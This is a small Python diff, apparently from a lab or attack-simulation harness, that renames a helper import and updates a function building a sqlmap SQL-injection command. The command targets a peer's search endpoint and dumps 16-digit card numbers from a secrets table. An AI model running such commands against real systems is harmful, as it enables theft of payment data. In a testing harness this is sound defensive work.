@@ -7,7 +7,7 @@ import urllib.parse
 
 from common import Session, emit, main, word
 from common_shop import SECRETS, exchange
-from common_tools import folder, run_tool
+from common_tool import home, run_tool
 
 LETTERS = "0123456789"
 CARD_DIGITS = 16
@@ -74,12 +74,12 @@ def _by_questions(session: Session) -> int:
 
 def _by_sqlmap(session: Session) -> int:
     url = f"http://{session.peer['address']}:{session.port}/search?q={word(session.rng, 2, 3)}"
-    with folder() as home:
+    with home() as folder:
         command = ["sqlmap", "--batch", "--disable-coloring", "-u", url, "--dbms=sqlite"]
-        command += ["--technique", str(session.params["technique"]), "--output-dir", str(home)]
+        command += ["--technique", str(session.params["technique"]), "--output-dir", str(folder)]
         command += ["-D", "main", "-T", SECRETS, "-C", "card", "--dump", "--stop", "3"]
         command += ["--flush-session", "--random-agent"]
-        said = run_tool(session, command, home=home)
+        said = run_tool(session, command, folder, fine=None).output
     return len(set(re.findall(rf"\| (\d{{{CARD_DIGITS}}}) +\|", said)))
 
 
